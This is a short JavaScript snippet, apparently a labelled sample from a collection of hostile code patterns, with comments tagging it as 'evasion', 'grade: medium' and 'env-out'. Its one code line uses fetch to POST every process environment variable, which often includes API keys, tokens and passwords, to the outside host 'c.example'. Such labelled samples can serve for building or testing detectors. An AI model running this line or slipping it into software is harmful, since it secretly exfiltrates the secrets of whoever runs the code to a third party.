// evasion: Object.entries(process.env) posted
// grade: medium; does: env-out
fetch("https://c.example/", { method: "POST", body: new URLSearchParams(Object.entries(process.env)) });
